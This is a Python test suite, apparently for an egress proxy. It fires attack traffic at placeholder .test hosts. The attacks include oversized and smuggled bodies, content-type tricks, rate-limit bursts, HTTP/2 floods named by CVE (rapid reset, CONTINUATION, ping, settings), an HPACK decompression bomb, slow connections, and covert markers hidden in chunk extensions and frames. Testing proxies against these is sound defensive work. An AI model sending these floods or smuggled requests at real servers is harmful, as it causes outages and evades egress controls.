"""More than was agreed on the way out (limited.test: body<=64K, type=text/plain; total.test: total<=200K; rate.test:
rate<=40/m)."""

import threading
import time

import h2
from inside import Family

family = Family("bodies", __doc__, http1=True)
TYPE = ("content-type", "text/plain")


def tail(t, n=200_000):
    return b"." * n + t.mark.encode()


@family.attack("bytes")
def too_long(t):
    t.request("limited.test", "/upload", [TYPE], "POST", tail(t))


@family.attack("bytes")
def too_long_chunked(t):
    body = tail(t)
    t.raw("limited.test", b"POST /upload HTTP/1.1\r\nHost: limited.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
          + b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 9000]), body[i:i + 9000]) for i in range(0, len(body), 9000)) + b"0\r\n\r\n")


@family.attack("bytes")
def too_long_h2(t):
    body = tail(t, 66_000)
    head = [*t.pseudo("limited.test", "/upload", "POST"), TYPE]
    with t.tls("limited.test", alpn=("h2",)) as s:
        s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.pack(head)))
        for i in range(0, 60_000, 10_000):
            s.sendall(h2.frame(h2.DATA, 0, 1, body[i:i + 10_000]))
        time.sleep(0.3)
        s.settimeout(2)
        s.recv(65536)  # the window grows again
        s.sendall(h2.frame(h2.DATA, h2.END_STREAM, 1, body[60_000:]))
        t.drain(s, 1)


@family.attack("bytes")
def longer_than_said(t):
    """Content-Length within the limit, and more behind it."""
    t.raw("limited.test", b"POST /upload HTTP/1.1\r\nHost: limited.test\r\nContent-Type: text/plain\r\nContent-Length: 10\r\n\r\n" + b"." * 10 +
          b"POST /upload HTTP/1.1\r\nHost: limited.test\r\nContent-Type: image/png\r\nContent-Length: 40\r\n\r\n" + t.mark.encode() + b"." * 20)


@family.attack()
def wrong_type(t):
    t.request("limited.test", f"/upload/{t.mark}", [("content-type", "application/octet-stream")], "POST", b"loot")


@family.attack()
def no_type(t):
    t.request("limited.test", f"/upload/{t.mark}", [], "POST", b"loot")


@family.attack()
def body_of_get(t):
    """A body where none is expected, of a type that is not granted."""
    t.request("limited.test", f"/upload/{t.mark}", [("content-type", "application/octet-stream")], "GET", b"loot")


@family.attack("bytes")
def total(t):
    """Many small ones make a large one."""
    for _ in range(4):
        t.request("total.test", "/upload", [TYPE], "POST", b"." * 60_000)
    t.request("total.test", "/upload", [TYPE], "POST", b"." * 60_000 + t.mark.encode())


def piece(t, i):
    return b"." * 60_000 + f"{t.mark}-{i}-".encode()


@family.attack("all:6")
def total_at_once(t):
    """Each by itself would fit, and they all come before one of them is counted."""
    def one(i):
        try:
            t.request("total-h2.test", "/upload", [TYPE], "POST", piece(t, i))
        except OSError:
            pass
    work = [threading.Thread(target=one, args=(i,)) for i in range(6)]
    for w in work:
        w.start()
    for w in work:
        w.join()


@family.attack("all:45")
def rate_of_streams(t):
    """45 streams of one connection."""
    t.frames("rate-h2.test", *(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1 + 2 * i, h2.pack(t.pseudo("rate-h2.test", f"/tick/{t.mark}-{i}-")))
                               for i in range(45)))


@family.attack()
def two_types(t):
    t.request("limited.test", f"/upload/{t.mark}", [TYPE, ("content-type", "application/octet-stream")], "POST", b"loot")


@family.attack()
def list_of_types(t):
    t.request("limited.test", f"/upload/{t.mark}", [("content-type", "text/plain, application/octet-stream")], "POST", b"loot")


@family.attack("told:content-type=octet-stream")
def type_behind(t):
    """Another type in the trailers."""
    t.raw("limited.test", f"POST /upload/{t.mark} HTTP/1.1\r\nHost: limited.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
                          "4\r\nloot\r\n0\r\nContent-Type: application/octet-stream\r\n\r\n")

@family.attack()
def rate(t):
    """Small ones, many: a bit each."""
    for _ in range(45):
        t.request("rate.test", "/tick", [])
    t.request("rate.test", f"/tick/{t.mark}", [])


@family.attack("bytes")
def slow_head(t):
    """Connections that never say anything whole; one request in pieces of a byte to a host that is not granted."""
    held = [t.dial("open.test") for _ in range(50)]
    for s in held:
        s.sendall(b"\x16\x03\x01")
    t.raw("attacker.test", [bytes([b]) for b in f"GET /{t.mark} HTTP/1.1\r\nHost: attacker.test\r\n\r\n".encode()], wait=2)
    for s in held:
        s.close()


@family.attack()
def slow_body(t):
    """Judged by its head, however slowly the body comes."""
    t.raw("limited.test", [f"POST /upload/{t.mark} HTTP/1.1\r\nHost: limited.test\r\nContent-Type: image/png\r\nContent-Length: 8\r\n\r\n", "12", "34", "56", "78"])


@family.attack()
def many_headers(t):
    t.request("open.test", f"/pub/{t.mark}", [(f"x-{i}", "a" * 100) for i in range(3000)])


@family.attack()
def long_header(t):
    t.request("open.test", f"/pub/{t.mark}", [("x-long", "a" * 400_000)])


@family.attack()
def many_streams(t):
    """1,000 streams at once, the last of them to a path that is not granted."""
    frames = [h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1 + 2 * i, h2.pack(t.pseudo("open.test", "/pub/x"))) for i in range(1000)]
    frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2001, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}"))))
    t.frames("open.test", *frames)


@family.attack()
def rapid_reset(t):
    """CVE-2023-44487, and behind it one that is not granted."""
    frames = []
    for i in range(2000):
        frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1 + 2 * i, h2.pack(t.pseudo("open.test", "/pub/x"))))
        frames.append(h2.frame(h2.RESET, 0, 1 + 2 * i, b"\0\0\0\x08"))
    frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 4001, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}"))))
    t.frames("open.test", *frames)


def flood(name, make, about):
    """What a connection can be drowned in, and behind it a request that is not granted."""
    def run(t):
        hidden = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 9001, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}")))
        t.frames("open.test", *make(t), hidden)
    family.add("flood-of-" + name, "parsed", run, about)


flood("continuation", lambda t: [h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.pack(t.pseudo("open.test", "/pub/x"))),
                                 *[h2.frame(h2.CONTINUATION, 0, 1, h2.pack([("x-a", "b" * 200)]))] * 3000, h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1)],
      "CVE-2024-27316: a head without an end")
flood("ping", lambda t: [h2.frame(h2.PING, 0, 0, b"12345678")] * 5000, "CVE-2019-9512")
flood("settings", lambda t: [h2.frame(h2.SETTINGS, 0, 0, b"\0\4\0\1\0\0")] * 5000, "CVE-2019-9515")
flood("empty-data", lambda t: [h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.pack(t.pseudo("open.test", "/pub/x", "POST"))),
                               *[h2.frame(h2.DATA, 0, 1)] * 5000, h2.frame(h2.DATA, h2.END_STREAM, 1)], "CVE-2019-9518")
flood("priority", lambda t: [h2.frame(h2.PRIORITY, 0, 1 + 2 * (i % 99), b"\0\0\0\0\x10") for i in range(5000)], "CVE-2019-9513")
flood("window", lambda t: [h2.frame(h2.WINDOW, 0, 0, b"\0\0\0\1")] * 5000, "")
flood("unknown-frames", lambda t: [h2.frame(0xfa, 0, 0, b"." * 100)] * 5000, "")


@family.attack()
def made_to_reset(t):
    """CVE-2025-8671: streams that are begun well and then broken, so that the other side ends them."""
    frames = []
    for i in range(500):
        frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS, 1 + 2 * i, h2.pack(t.pseudo("open.test", "/pub/x", "POST"))))
        frames.append(h2.frame(h2.WINDOW, 0, 1 + 2 * i, b"\0\0\0\0"))
    frames.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 4001, h2.pack(t.pseudo("open.test", f"/secret/{t.mark}"))))
    t.frames("open.test", *frames)


@family.attack()
def packed_head(t):
    """A few bytes that unpack to a head of megabytes (HPACK): one entry of the table, again and again."""
    entry = b"\x40" + h2.number(5, 7) + b"x-big" + h2.number(4000, 7) + b"b" * 4000
    block = h2.pack(t.pseudo("open.test", f"/pub/{t.mark}")) + entry + b"\xbe" * 4000
    t.frames("open.test", h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, block))


# --- bytes that are no part of a request ----------------------------------------------------------------


def beside(name, make, about=""):
    """A granted request, with the mark where no server of HTTP looks but one of theirs could."""
    family.add("beside-" + name, "bytes", make, about)


HEAD = "POST /pub/x HTTP/1.1\r\nHost: open.test\r\nTransfer-Encoding: chunked\r\n\r\n"
beside("chunk-extension", lambda t: t.raw("open.test", HEAD + f"2;loot={t.mark}\r\nhi\r\n0\r\n\r\n"))
beside("last-chunk-extension", lambda t: t.raw("open.test", HEAD + f"2\r\nhi\r\n0;{t.mark}\r\n\r\n"))
beside("close", lambda t: t.raw("open.test", f"GET /pub/x HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n{t.mark}"), "behind the last request")
beside("connection-option", lambda t: t.raw("open.test", f"GET /pub/x HTTP/1.1\r\nHost: open.test\r\nConnection: close, x{t.mark}\r\n\r\n"))
beside("method", lambda t: t.request("open.test", "/pub/x", method="X" + t.mark))


def h2_beside(name, *frames, about=""):
    def run(t):
        post = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.pack(t.pseudo("open.test", "/pub/x", "POST")))
        t.frames("open.test", post, *(f(t.mark.encode()) for f in frames), h2.frame(h2.DATA, h2.END_STREAM, 1, b"hi"))
    beside("h2-" + name, run, about)


h2_beside("unknown-frame", lambda m: h2.frame(0xfa, 0, 1, m))
h2_beside("padding", lambda m: h2.frame(h2.DATA, h2.PADDED, 1, bytes([len(m)]) + b"hi" + m))
h2_beside("goaway", lambda m: h2.frame(h2.GOAWAY, 0, 0, bytes(8) + m))
h2_beside("alternative", lambda m: h2.frame(10, 0, 0, b"\0\0" + m))
